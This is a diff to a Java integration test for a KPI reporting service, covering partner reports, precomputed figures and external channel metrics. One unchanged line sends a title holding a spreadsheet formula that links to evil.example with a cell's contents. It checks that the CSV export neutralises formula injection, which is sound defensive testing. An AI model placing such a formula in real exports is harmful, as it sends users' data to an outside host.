@@ -40,6 +40,10 @@ class KpiIT implements OperationalEndpointsContract {
     @org.springframework.beans.factory.annotation.Autowired
     Projector projector;
     @org.springframework.beans.factory.annotation.Autowired
+    KpiService kpiService;
+    @org.springframework.beans.factory.annotation.Autowired
+    FactStore facts;
+    @org.springframework.beans.factory.annotation.Autowired
     org.springframework.data.mongodb.core.MongoTemplate mongo;
     @org.springframework.beans.factory.annotation.Autowired
     org.springframework.cloud.stream.binding.BindingsLifecycleController bindings;
@@ -311,8 +315,12 @@ class KpiIT implements OperationalEndpointsContract {
                 .as("no evaluations: not yet collected, rather than none given").contains("Nog geen evaluaties");
         String partnerReport = http.get().uri("/ops/report?network={n}&period=2026&partner=kuleuven", network)
                 .header(HttpHeaders.AUTHORIZATION, TestTokens.ops(network)).retrieve().body(String.class);
-        assertThat(partnerReport).contains("id=\"selection\"").contains("Alleen de activiteiten van kuleuven")
-                .contains("export.xlsx?network=" + network + "&amp;period=2026&amp;partner=kuleuven");
+        assertThat(partnerReport).contains("id=\"selection\"").contains("Alleen de activiteiten van KU Leuven")
+                .contains("export.xlsx?network=" + network + "&amp;period=2026&amp;partner=kuleuven")
+                .as("the form offers the partners and locations by name, and keeps the chosen one")
+                .containsPattern("<option value=\"kuleuven\" selected=\"selected\">KU Leuven</option>")
+                .contains("<option value=\"kulak\">Campus Kulak</option>");
+        assertThat(report).as("a change needs a previous period").contains("id=\"change-directParticipations\">–<");
 
         // A title typed as a formula is text in the CSV export, not something a spreadsheet runs.
         Events.send(Events.projectPublished(network, "f-" + network, "=HYPERLINK(\"https://evil.example/?\"&A1,\"klik\")"));
@@ -393,12 +401,19 @@ class KpiIT implements OperationalEndpointsContract {
 
         Events.send(Events.download(network, "prep-" + network, AssetKind.MATERIAL, "2026-05-05T10:00:01Z"));
 
+        // Prepared when its batch was applied, without anybody asking (a document computed for a request does not count
+        // here, so trying again cannot pass by serving what an earlier try computed); then served as it was prepared.
+        KpiQuery query = new KpiQuery(network, "2026", java.util.Optional.empty(), java.util.Optional.empty());
         await().atMost(Duration.ofSeconds(15)).untilAsserted(() -> {
+            assertThat(kpiService.preparedAhead(query)).as("prepared ahead").isTrue();
+            long version = facts.version();
             double requested = computed("requested");
-            assertThat(indirect(network, "2026")).isEqualTo(2);
+            long served = indirect(network, "2026");
+            assertThat(facts.version()).as("no other batch in between").isEqualTo(version);
+            assertThat(served).isEqualTo(2);
             assertThat(computed("requested")).as("served as prepared, not computed for the request").isEqualTo(requested);
-            assertThat(computed("ahead")).isGreaterThan(preparedBefore);
         });
+        assertThat(computed("ahead")).isGreaterThan(preparedBefore);
     }
 
     @Test
@@ -434,10 +449,42 @@ class KpiIT implements OperationalEndpointsContract {
     }
 
     @Test
+    void externalFiguresAreReportedBesideTheDownloadsAndALaterReportReplacesAnEarlierOne() {
+        String network = Events.network();
+        Events.send(Events.download(network, "ext-" + network, AssetKind.SHEET, "2026-02-02T10:00:00Z"));
+        Events.send(Events.externalFigure(network, "KlasCement", "resources viewed", "2026", 10, "2026-03-01T09:00:00Z"));
+        Events.send(Events.externalFigure(network, "KlasCement", "resources viewed", "2026", 12, "2026-04-01T09:00:00Z"));
+        // An older report that arrives late changes nothing; another metric is its own row.
+        Events.send(Events.externalFigure(network, "KlasCement", "resources viewed", "2026", 7, "2026-02-01T09:00:00Z"));
+        Events.send(Events.externalFigure(network, "KlasCement", "resources used", "2026", 3, "2026-04-01T09:00:00Z"));
+        Events.send(Events.download(network, "ext-" + network, AssetKind.MATERIAL, "2026-02-02T10:00:01Z"));
+
+        await().atMost(Duration.ofSeconds(15)).until(() -> indirect(network, "2026") == 2);
+        JsonNode document = kpis(network, "2026");
+        assertThat(document.get("externalChannels")).hasSize(2);
+        assertThat(document.get("externalChannels").valueStream()
+                .map(row -> row.get("channel").asString() + "/" + row.get("metric").asString() + "=" + row.get("value").asDouble()))
+                .containsExactlyInAnyOrder("KlasCement/resources viewed=12.0", "KlasCement/resources used=3.0");
+        assertThat(document.get("reach").get("indirect").asLong()).as("never added into the downloads").isEqualTo(2);
+        assertThat(kpis(network, "2025").get("externalChannels")).as("another period").isEmpty();
+    }
+
+    @Test
     void theDocumentFulfilsTheFunderContract() {
         String network = Events.network();
+        // Every table filled: downloads, pre-service, a trajectory, an external channel.
+        Events.send(Events.activity(network, "pre-" + network, "PRE_SERVICE_SESSION", "2026-03-03", 1));
+        Events.send(Events.attended(network, "pre-" + network, "student-" + network, true, "2026-03-03T10:00:00Z"));
+        Events.send(Events.activity(network, "traj-" + network, "BASIC_TRAJECTORY", "2026-03-04", 1));
+        Events.send(Events.attended(network, "traj-" + network, "teacher-" + network, true, "2026-03-04T10:00:00Z"));
+        Events.send(Events.externalFigure(network, "KlasCement", "resources viewed", "2026", 10, "2026-03-01T09:00:00Z"));
         Events.send(Events.download(network, "p-" + network, AssetKind.MATERIAL, "2026-02-02T10:00:00Z"));
         await().atMost(Duration.ofSeconds(15)).until(() -> indirect(network, "2026") == 1);
+        await().atMost(Duration.ofSeconds(15)).until(() -> {
+            JsonNode document = kpis(network, "2026");
+            return !document.get("preService").get("rows").isEmpty() && !document.get("trajectories").isEmpty()
+                    && !document.get("externalChannels").isEmpty();
+        });
 
         for (String selection : new String[]{network, "ALL"}) {
             JsonNode document = kpis(selection, "2026");
